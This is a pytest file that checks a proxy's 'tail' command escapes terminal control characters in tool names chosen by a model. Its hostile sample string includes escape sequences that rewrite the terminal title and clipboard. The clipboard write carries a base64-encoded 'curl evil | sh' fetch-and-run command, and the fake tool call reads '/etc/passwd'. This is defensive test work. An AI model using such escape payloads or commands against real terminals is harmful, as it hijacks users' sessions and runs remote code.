"""``guardproxy tail`` prints model-chosen text (a tool name, a path) with every character a terminal
acts on escaped, in both its modes; a real proxy feeds a real ``tail`` process."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.apis import raw_call
from tests.fakes.faulty import poll
from tests.fakes.proxy import ProxyServer
from tests.fakes.upstream import FakeUpstream, Reply
from tests.ops.test_ops import ROOT

TOKEN = "tail-token-1234"
TOOLS = """
[tools]
workspace_root = "{ws}"
"""
HOSTILE = "Read\x1b[2K\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b2J\u202e\u2028"


@pytest.mark.parametrize("mode", [[], ["--json"]])
def test_tail_escapes_what_the_model_chose(upstream: FakeUpstream, tmp_path: Path, mode: list[str]) -> None:
    with ProxyServer(upstream.url, TOOLS.format(ws=tmp_path), auth_token=TOKEN) as proxy:
        tail = subprocess.Popen([sys.executable, "-m", "proxy", "tail", "--url", proxy.url, "--token", TOKEN,
                                 "--limit", "1", *mode], cwd=ROOT, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        assert poll(lambda: proxy.app.feed.subscribers == 1, 20.0)
        upstream.queue(Reply(text="", tool_calls=[(HOSTILE, {"file_path": "/etc/passwd"})]))
        raw_call(proxy.url, "chat", stream=True, headers={"x-guardproxy-token": TOKEN})
        out, err = tail.communicate(timeout=20)
    assert tail.returncode == 0, err
    text = out.decode()
    assert "tool" in text
    assert not any(ord(c) < 0x20 and c != "\n" or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u2028" for c in text), \
        repr(text)
    assert "\\u001b]0;owned" in text  # still readable, escaped
    if mode:
        assert json.loads(text)["tool"] == HOSTILE  # the JSON says exactly what the model chose
